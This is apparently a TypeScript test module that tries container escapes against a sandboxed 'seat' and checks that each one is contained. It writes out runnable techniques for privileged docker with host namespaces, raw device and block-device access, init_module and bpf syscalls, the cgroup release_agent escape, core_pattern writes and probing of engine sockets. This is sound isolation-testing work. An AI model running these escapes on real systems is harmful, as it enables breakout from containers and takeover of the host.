import { randomBytes } from "node:crypto";
import { access } from "node:fs/promises";
import { layout } from "../../setup/seat-host/layout.ts";
import type { Attack } from "../attack.ts";
import { type AnySeat, say, sh } from "../ground.ts";
import { judgeClaims, judgeLines } from "../judge.ts";
import { addressOf } from "./network.ts";
import { CALLS, perl, TRY } from "./scripts.ts";

const FROM = "a container in a seat";
/** Containers come up slowly on a machine that is busy. */
const SECONDS = 120;
export const IMAGE = "debian:bookworm-slim";
const ALL =
  "--privileged --pid=host --net=host --ipc=host --uts=host --cgroupns=host --userns=host -v /:/host -v /dev:/dev -v /sys:/sys -v /proc:/hostproc";

/** Runs a script in a container; it comes by standard input, so that nothing needs quoting twice. */
export async function inContainer(seat: AnySeat, flags: string, script: string, timeoutMs = 80_000) {
  const result = await seat.exec(["sh", "-c", `docker run --rm -i ${flags} ${IMAGE} sh`], {
    input: script,
    timeoutMs,
    maxOutputBytes: 256 * 1024,
  });
  // What the engine itself says when nothing was run; a script that fails is no fault of the attack's.
  if (result.exitCode === 125) throw new Error(`docker run: ${result.stderr.slice(-300)}`);
  return result;
}

export const container: readonly Attack[] = [
  {
    id: "container/privileged",
    seconds: SECONDS,
    title: "docker run --privileged with every namespace and folder of the host",
    from: FROM,
    expects: "It is root over the seat, and still nobody on the machine.",
    run: async (ground) => {
      const seat = await ground.attacker();
      // What --ipc=host asks for.
      await sh(seat, "mkdir -p /dev/shm; mountpoint -q /dev/shm || mount -t tmpfs tmpfs /dev/shm");
      const result = await inContainer(
        seat,
        ALL,
        `${TRY}
        works "a mount, for which one must be privileged" sh -c 'mount -t tmpfs tmpfs /mnt && umount /mnt'
        works "mknod of a pipe" mknod /tmp/pipe p
        works "the seat's own files below /host" test -e /host/etc/passwd
        works "process 1 of the seat" test -e /hostproc/1/root/etc/passwd
        awk '{ print ($2 == 0 ? "through: " : "held: ") "uid map " $1 " " $2 " " $3 }' /proc/self/uid_map
        tail -n +3 /proc/partitions | while read -r major minor _ name; do try "mknod of $name" mknod /tmp/$name b $major $minor; done
        try "chroot into the machine" test -e /host/var/lib/incus
        try "process 1 of the machine" test -e /hostproc/1/root/var/lib/incus
        try "core_pattern" sh -c "cat /proc/sys/kernel/core_pattern > /tmp/c && cat /tmp/c > /hostproc/sys/kernel/core_pattern"
        try "sysrq" sh -c "echo h > /hostproc/sysrq-trigger"
        try "kernel log" dmesg
        try "mount of a disk" mount "/dev/$(tail -n 1 /proc/partitions | tr -s ' ' | cut -d ' ' -f 5)" /mnt`,
      );
      return judgeLines(result.stdout);
    },
  },
  {
    id: "container/devices",
    seconds: SECONDS,
    title: "docker run --device with disks, memory and kvm",
    from: FROM,
    expects: "There is no such device to hand in.",
    run: async (ground) =>
      judgeLines(
        await say(
          await ground.attacker(),
          `${TRY}
          own=$(ls /dev/fuse /dev/net/tun 2> /dev/null | head -n 1)
          works "--device of one that is there" docker run --rm --device "$own" ${IMAGE} test -c "$own"
          for device in /dev/mem /dev/kvm /dev/loop-control $(awk 'NR > 2 { print "/dev/" $4 }' /proc/partitions | head -n 3); do
            try "--device $device" docker run --rm --device "$device" ${IMAGE} test -r "$device"
          done
          try "a rule for all block devices" docker run --rm --device-cgroup-rule 'b *:* rwm' --cap-add MKNOD ${IMAGE} sh -c 'mknod /d b 254 0 && head -c 1 /d'`,
          100_000,
        ),
      ),
  },
  {
    id: "container/capabilities",
    seconds: SECONDS,
    title: "Every capability: modules, raw memory, bpf, time, without seccomp and AppArmor",
    from: FROM,
    expects: "Capabilities of a seat's namespace open nothing of the machine's.",
    run: async (ground) => {
      const seat = await ground.attacker();
      const result = await inContainer(
        seat,
        "--cap-add ALL --security-opt seccomp=unconfined --security-opt apparmor=unconfined --security-opt systempaths=unconfined",
        `${TRY}
        works "a capability: a mount" sh -c 'mount -t tmpfs tmpfs /mnt && umount /mnt'
        works "mknod of a pipe" mknod /own p
        ${perl(`${CALLS} my $image = "\\x7fELF" . "\\0" x 4096; my $none = "\\0";
          tell_call("init_module", syscall($call{init_module}, $image, length $image, $none));
          my $code = pack("Q2", 0xb7, 0x95); my $license = "GPL\\0";
          my $load = pack("LLQQLLQLL", 2, 2, unpack("Q", pack("p", $code)), unpack("Q", pack("p", $license)), 0, 0, 0, 0, 0);
          tell_call("bpf", syscall($call{bpf}, 5, $load . "\\0" x 80, 128));`)}
        denied "the clock" date -s "@$(date +%s)"
        try "spared by the killer" sh -c "echo -1000 > /proc/self/oom_score_adj"
        try "/dev/port" sh -c "mknod /p c 1 4 && head -c 1 /p"`,
      );
      return judgeLines(result.stdout);
    },
  },
  {
    id: "container/engine-socket",
    seconds: SECONDS,
    title: "The engine's socket in a container, as a way to the machine's engine",
    from: FROM,
    expects: "The only engine that can be spoken to is the seat's own.",
    run: async (ground) => {
      const seat = await ground.attacker();
      // Clones have one engine id; what tells them apart is the name of the machine.
      const id = await say(seat, "docker info --format '{{.Name}}'");
      const other = await say(await ground.neighbour(), "docker info --format '{{.Name}}'");
      const result = await sh(
        seat,
        `docker run --rm --net=host -v /:/host ${IMAGE} sh -c 'find /host/run /host/var/run -name "*.sock" -type s' | sort -u
        for socket in $(find / -xdev -type s -name 'docker*.sock' 2>/dev/null) /run/docker.sock; do
          curl -s -m 3 --unix-socket "$socket" http://x/info | jq -r .Name; done | sort -u
        for port in 2375 2376; do for host in 127.0.0.1 10.78.0.1 10.78.0.2; do timeout 3 socat -u /dev/null TCP:$host:$port,connect-timeout=2 2>/dev/null && echo port open; done; done; true`,
        100_000,
      );
      return judgeClaims(
        {
          "by its sockets it speaks to no engine but its own": !result.stdout.includes(other),
          "no engine's port is open": !result.stdout.includes("port open"),
        },
        {
          "by its sockets it speaks to its own engine": result.stdout.includes(id),
          "the neighbour's engine has another name": id !== other && other !== "",
        },
      );
    },
  },
  {
    id: "container/release-agent",
    seconds: SECONDS,
    title: "The classical escape: mount a control group, set release_agent, empty it",
    from: FROM,
    expects: "Nothing of ours is started on the machine.",
    run: async (ground) => {
      const name = `drydock-doctor-${randomBytes(6).toString("hex")}`;
      const result = await inContainer(
        await ground.attacker(),
        "--privileged --cgroupns=host --pid=host",
        `${TRY}
        grep -qw cgroup /proc/filesystems || { echo none; exit; }
        printf '#!/bin/sh\\ntouch /tmp/${name}\\n' > /agent; chmod +x /agent
        works "the agent itself" sh -c '/agent && test -e /tmp/${name}'
        works "a mount of a hierarchy without one" sh -c 'mkdir -p /cg && mount -t cgroup2 cgroup2 /cg && umount /cg'
        host=$(sed -n 's/.*upperdir=\\([^,]*\\).*/\\1/p' /proc/mounts | head -n 1)
        for kind in memory pids rdma misc freezer; do
          mkdir -p /cg; mount -t cgroup -o $kind cgroup /cg 2>/dev/null || { echo "held: no mount of $kind"; continue; }
          mkdir -p /cg/x; try "notify_on_release of $kind" sh -c "echo 1 > /cg/x/notify_on_release; echo $host/agent > /cg/release_agent"
          sh -c 'echo $$ > /cg/x/cgroup.procs' 2>/dev/null; sleep 0.5; rmdir /cg/x 2>/dev/null; umount /cg
        done`,
      );
      if (result.stdout.trim() === "none")
        return { absent: "this kernel has control groups of version 2 alone, which have no release_agent" };
      const ran = await access(`/tmp/${name}`).then(
        () => true,
        () => false,
      );
      return ran ? { contained: false, evidence: "the agent ran on the machine" } : judgeLines(result.stdout);
    },
  },
  {
    id: "container/kernel-settings",
    seconds: SECONDS,
    title: "docker run --sysctl for settings of the whole kernel",
    from: FROM,
    expects: "Only settings of the container's own namespaces are taken.",
    run: async (ground) =>
      judgeLines(
        await say(
          await ground.attacker(),
          `${TRY}
          works "a setting of the container's own" docker run --rm --sysctl net.ipv4.ip_forward=1 ${IMAGE} true
          try "kernel.core_pattern" docker run --rm --sysctl kernel.core_pattern=core ${IMAGE} true
          try "vm.overcommit_memory" docker run --rm --privileged --sysctl vm.overcommit_memory=1 ${IMAGE} true
          try "kernel.panic" docker run --rm --privileged --sysctl kernel.panic=0 ${IMAGE} true
          try "vm.drop_caches" docker run --rm --privileged ${IMAGE} sh -c 'echo 1 > /proc/sys/vm/drop_caches'`,
          100_000,
        ),
      ),
  },
  {
    id: "container/neighbour",
    seconds: SECONDS,
    title: "Reach another seat from a container with the seat's own network",
    from: FROM,
    expects: "A container stands no nearer to another seat than its seat does.",
    run: async (ground) => {
      const [attacker, neighbour] = await Promise.all([ground.attacker(), ground.neighbour()]);
      const there = await addressOf(neighbour);
      const listening = await neighbour.dial([
        "socat",
        "-u",
        "TCP-LISTEN:7081,reuseaddr,fork",
        "OPEN:/tmp/c,creat,append",
      ]);
      try {
        const send = (word: string) => `(exec 3<>/dev/tcp/${there}/7081 && echo ${word} >&3) 2>/dev/null`;
        await sh(neighbour, `sleep 0.5; timeout 4 bash -c '${send("own")}'`);
        const may = `exec 4<>/dev/tcp/${layout.servicesAddress}/${layout.proxyPort} && echo may reach`;
        const ran: string[] = [];
        for (const flags of ["--net=host --privileged", ""]) {
          const { stdout } = await sh(
            attacker,
            `timeout 20 docker run --rm ${flags} ${IMAGE} timeout 8 bash -c '${may}; ${send("foreign")}'`,
          );
          ran.push(stdout);
        }
        const got = await say(neighbour, "sleep 0.3; cat /tmp/c; rm -f /tmp/c");
        return judgeClaims(
          { "no container of the attacker's reaches the neighbour's listener": !got.includes("foreign") },
          {
            "the neighbour reaches it": got.includes("own"),
            "both containers ran and reached what they may": ran.every((said) => said.includes("may reach")),
          },
        );
      } finally {
        listening.destroy();
      }
    },
  },
];
